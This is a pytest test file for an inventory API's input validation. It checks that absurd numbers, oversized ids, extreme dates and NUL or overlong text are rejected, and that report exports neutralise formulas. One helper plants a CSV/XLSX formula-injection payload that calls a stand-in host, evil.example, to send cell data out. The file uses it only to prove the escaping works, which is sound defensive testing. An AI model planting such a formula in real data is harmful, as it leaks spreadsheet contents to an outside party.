"""Validation at the edge (issue 13): no input gives a 500, stored absurd values break no page,
and exports never carry a live formula.

Each test reproduces a finding of the probe through the API, on SQLite and PostgreSQL: on the
old code a weight of ``1e308`` or ``Infinity`` was accepted and then made the supplier-quality
report a 500 for everyone; ids and offsets above 2**63-1 (SQLite cannot bind them), dates such
as 0001-01-01 or 9999-12-31 (a period's arithmetic overflowed), and NaN or negative report
options were 500s; text had no length limit (PostgreSQL then failed on the column's width) nor
a ban on NUL (PostgreSQL refuses it); a supplier named ``=HYPERLINK(...)`` became a formula in
the CSV and XLSX exports.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from typing import Any

import pytest
from fastapi.testclient import TestClient

from core import Database
from core.documents.schemas import LotIn, QCCreate, ReceiptCreate, ReceiptLineIn, SerialIn
from core.fields import MAX_ID, MAX_INT32
from core.purchasing import receiving
from tests.builders import Builder
from tests.core.api.test_api_core import api, error_code, login, seed

TOO_BIG = MAX_ID + 1  # 9223372036854775808


@pytest.fixture
def client(db: Database, db_url: str) -> Any:
    bins = seed(db)
    with api(db_url) as c:
        yield c, bins


def _receipt(weight: str, *, lot: str = "L-9", serial: str = "RING-1-W-1") -> str:
    """A receipt body as raw JSON text (``Infinity`` is no JSON number, but Python reads it)."""
    body = {"supplier": "SUP1", "lots": [{"code": lot, "purchase_date": "2026-01-05"}],
            "lines": [{"sku": "RING-1", "lot": lot, "quantity": 1,
                       "serials": [{"code": serial, "weight_g": "WEIGHT"}]}]}
    return json.dumps(body).replace('"WEIGHT"', weight)


def test_a_receipt_refuses_an_impossible_weight(client: Any) -> None:
    c, _ = client
    clerk = {**login(c, "cleo"), "Content-Type": "application/json"}
    for weight in ("1e308", "Infinity", "-Infinity", "NaN", "0", "100001"):
        answer = c.post("/api/receipts", content=_receipt(weight), headers=clerk)
        assert (answer.status_code, error_code(answer)) == (422, "invalid-request"), weight
        assert "weight_g" in answer.json()["error"]["message"]
    assert c.post("/api/receipts", content=_receipt("2.95"), headers=clerk).status_code == 201
    qc = c.post("/api/qc", json={"lot": "L-9", "result": "pass", "measured_weight_g": 1e308},
                headers=login(c, "quinn"))
    assert (qc.status_code, error_code(qc)) == (422, "invalid-request")


def _store_absurd_weights(db: Database) -> None:
    """Pieces weighed 1e308 g and infinity, as receipts stored them before the check (the
    service takes the request model as given, so ``model_construct`` stands in for the old
    validation)."""
    with db.write() as session:
        b = Builder(session)
        serials = [SerialIn.model_construct(code=f"RING-1-X-{i}", weight_g=w, epc=None)
                   for i, w in enumerate((1e308, float("inf"), 3.19))]
        receiving.receive(session, actor=b.actor, data=ReceiptCreate(
            supplier="SUP1",
            lots=[LotIn(code="L-X", purchase_date=date(2026, 1, 5))],
            lines=[ReceiptLineIn.model_construct(sku="RING-1", lot="L-X", quantity=3,
                                                 serials=serials, po_line=None)]))
        receiving.inspect_lot(session, actor=b.actor, data=QCCreate(lot="L-X", result="pass"))


def test_stored_absurd_weights_do_not_break_the_supplier_quality_report(
    client: Any, db: Database
) -> None:
    c, _ = client
    _store_absurd_weights(db)
    auditor = login(c, "fay")
    answer = c.get("/api/reports/supplier-quality", headers=auditor)
    assert answer.status_code == 200, answer.text
    (row,) = [r for r in answer.json()["items"] if r["supplier"] == "SUP1"]
    assert row["weights_skipped"] == 2
    assert row["pieces_weighed"] >= 1  # 3.19 g against 2.9 g net: 10 % over
    assert row["max_abs_weight_deviation_pct"] == 10.0
    for fmt in ("csv", "xlsx"):
        export = c.get("/api/reports/supplier-quality", params={"format": fmt}, headers=auditor)
        assert export.status_code == 200, (fmt, export.text[:200])


def test_stored_absurd_weights_break_no_read(client: Any, db: Database) -> None:
    """Every page that shows a piece shows one weighed 1e308 g or infinity (as null)."""
    c, _ = client
    _store_absurd_weights(db)
    manager = login(c, "mia")
    for path in ["/api/serials/RING-1-X-0", "/api/serials/RING-1-X-1", "/api/lots/L-X/trace",
                 "/api/serials/RING-1-X-1/history", "/api/locate?q=RING-1-X-1",
                 "/api/locate?q=L-X", "/api/stock?lot=L-X", "/api/moves?lot=L-X",
                 "/api/reports/overview"]:
        answer = c.get(path, headers=manager)
        assert answer.status_code == 200, (path, answer.text[:200])
    moves = c.get("/api/moves?lot=L-X", headers=manager).json()["items"]
    for number in {m["document"] for m in moves}:
        assert c.get(f"/api/documents/{number}", headers=manager).status_code == 200
    assert c.get("/api/serials/RING-1-X-1", headers=manager).json()["weight_g"] is None


def test_ids_and_offsets_beyond_64_bits_are_422(client: Any) -> None:
    c, _ = client
    manager = login(c, "mia")
    for method, path, body in [
        ("GET", f"/api/orders/{TOO_BIG}", None),
        ("POST", f"/api/orders/{TOO_BIG}/allocate", None),
        ("POST", f"/api/picks/{TOO_BIG}/confirm", {"quantity": 1}),
        ("POST", f"/api/moves/{TOO_BIG}/reverse", {"reason": "typo"}),
        ("GET", f"/api/alerts/{TOO_BIG}/snapshot.jpg", None),
        ("GET", f"/api/stock?offset={TOO_BIG}", None),
        ("GET", f"/api/orders?offset={TOO_BIG}", None),
        ("POST", "/api/picklists", {"order_ids": [TOO_BIG]}),
        ("GET", "/api/orders/0", None),
        ("GET", f"/api/orders/{MAX_INT32 + 1}", None),  # ids are Integer: 32-bit on PostgreSQL
    ]:
        answer = c.request(method, path, json=body, headers=manager)
        assert (answer.status_code, error_code(answer)) == (422, "invalid-request"), path
    assert c.get(f"/api/orders/{MAX_INT32}", headers=manager).status_code == 404
    assert c.get(f"/api/stock?offset={MAX_ID}", headers=manager).json()["items"] == []


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1969-12-31", "2101-01-01"])
def test_dates_outside_1970_to_2100_are_422(client: Any, day: str) -> None:
    c, _ = client
    manager, auditor = login(c, "mia"), login(c, "fay")
    moment = f"{day}T00:00:00Z"
    for path, headers in [
        (f"/api/reports/best-sellers?until={moment}", auditor),
        (f"/api/reports/order-flow?since={moment}", auditor),
        (f"/api/reports/overview?day={day}", manager),
        (f"/api/moves?since={moment}", manager),
        (f"/api/pick-exceptions?until={moment}", manager),
    ]:
        answer = c.get(path, headers=headers)
        assert (answer.status_code, error_code(answer)) == (422, "invalid-request"), path
    order = {"channel": "web", "external_id": f"E-{day}", "customer_name": "Ada",
             "due_at": moment, "lines": [{"sku": "RING-1", "quantity": 1}]}
    po = {"supplier": "SUP1", "expected_on": day,
          "lines": [{"sku": "RING-1", "quantity": 1, "unit_cost": "10.00"}]}
    for path, body in [("/api/orders", order), ("/api/purchase-orders", po)]:
        answer = c.post(path, json=body, headers=manager)
        assert (answer.status_code, error_code(answer)) == (422, "invalid-request"), path


def test_nan_negative_and_inverted_report_parameters_are_422(client: Any) -> None:
    c, _ = client
    auditor = login(c, "fay")
    for name, params in [
        ("reorder", {"lead_time_weeks": "NaN"}),
        ("reorder", {"review_weeks": "-1"}),
        ("reorder", {"service_level": "nan"}),
        ("reorder", {"lead_time_weeks": "inf"}),
        ("best-sellers", {"limit": "-5"}),
        ("best-sellers", {"limit": str(TOO_BIG)}),
        ("dead-stock", {"days": "-3"}),
        ("dead-stock", {"days": "1000000000"}),
        ("anomalies", {"idle_days": "-1"}),
        ("slotting-advice", {"vault_price_threshold": "NaN"}),
    ]:
        answer = c.get(f"/api/reports/{name}", params=params, headers=auditor)
        assert answer.status_code == 422, (name, params, answer.text)
        assert error_code(answer) in {"bad-option", "invalid-request"}, (name, params)
    inverted = c.get("/api/reports/best-sellers", headers=auditor, params={
        "since": "2026-03-01T00:00:00Z", "until": "2026-02-01T00:00:00Z"})
    assert (inverted.status_code, error_code(inverted)) == (422, "bad-period")
    assert c.get("/api/reports/reorder", params={"lead_time_weeks": 3},
                 headers=auditor).status_code == 200


def test_text_is_limited_to_its_column_and_printable(client: Any) -> None:
    c, _ = client
    manager, clerk = login(c, "mia"), login(c, "cleo")
    big = "x" * 100_000
    for method, path, body in [
        ("PATCH", "/api/lots/L-1", {"packaging": big}),
        ("POST", "/api/lots", {"code": "L-7", "supplier": "SUP1", "purchase_date": "2026-01-05",
                               "certificate_no": big}),
        ("POST", "/api/styles", {"code": "ST-N", "name": "Nul\x00name", "category": "ring"}),
        ("POST", "/api/styles", {"code": "ST-S", "name": "Lone \ud800", "category": "ring"}),
        ("POST", "/api/adjustments", {"reason": "lost", "note": big, "lines": [
            {"sku": "CHAIN-1", "lot": "L-2", "location": "A01-01-1-01", "quantity": -1}]}),
    ]:
        answer = c.request(method, path, content=json.dumps(body),  # escapes \ud800
                           headers={**manager, "Content-Type": "application/json"})
        assert (answer.status_code, error_code(answer)) == (422, "invalid-request"), path
    for path in ["/api/skus?q=%00", "/api/locations/A%00", f"/api/stock?sku={'s' * 200}",
                 "/api/lots?supplier=%01", "/api/locate?q=a%00"]:
        answer = c.get(path, headers=clerk)
        assert (answer.status_code, error_code(answer)) == (422, "invalid-request"), path
    answer = c.post("/api/presence/sign-off", json={"zone": "Z1\x00"}, headers=clerk)
    assert (answer.status_code, error_code(answer)) == (422, "invalid-request")
    # What the edge does not check, the database's refusal still answers 4xx (PostgreSQL
    # refuses NUL in text; this was a 500 there).
    answer = c.post("/api/auth/token", data={"username": "mia\x00", "password": "x"})
    assert answer.status_code in {401, 422}, answer.text


def _supplier_with_a_formula_name(c: TestClient) -> str:
    manager = login(c, "mia")
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    made = c.post("/api/suppliers", json={"code": "EVIL", "name": name}, headers=manager)
    assert made.status_code == 201, made.text
    receipt = {"supplier": "EVIL", "lots": [{"code": "L-E", "purchase_date": "2026-01-05"}],
               "lines": [{"sku": "RING-1", "lot": "L-E", "quantity": 1,
                          "serials": [{"code": "RING-1-E-1", "weight_g": 2.9}]}]}
    assert c.post("/api/receipts", json=receipt, headers=manager).status_code == 201
    assert c.post("/api/qc", json={"lot": "L-E", "result": "fail"},
                  headers=manager).status_code == 201
    return name


def test_exports_write_formula_like_text_as_text(client: Any) -> None:
    c, _ = client
    name = _supplier_with_a_formula_name(c)
    auditor = login(c, "fay")
    text = c.get("/api/reports/supplier-quality", params={"format": "csv"}, headers=auditor).text
    rows = {r["supplier"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["EVIL"]["name"] == "'" + name
    assert rows["EVIL"]["pass_rate"] == "0.0"  # numbers stay numbers
    book = c.get("/api/reports/supplier-quality", params={"format": "xlsx"}, headers=auditor)
    with zipfile.ZipFile(io.BytesIO(book.content)) as xlsx:
        sheet = xlsx.read("xl/worksheets/sheet1.xml").decode()
        strings = xlsx.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    assert "HYPERLINK" in strings  # the name is there, as a shared string
    assert re.search(r'<c r="[A-Z]+\d+"[^>]*><v>0</v></c>', sheet)  # a number cell (pass rate)


def test_a_json_body_is_still_the_error_envelope(client: Any) -> None:
    """A validation error stays 422 in the project's shape, with the field named."""
    c, _ = client
    answer = c.post("/api/styles", content=json.dumps({"code": "S", "name": "n" * 129,
                                                       "category": "ring"}),
                    headers={**login(c, "mia"), "Content-Type": "application/json"})
    assert answer.status_code == 422
    assert error_code(answer) == "invalid-request" and "name" in answer.json()["error"]["message"]
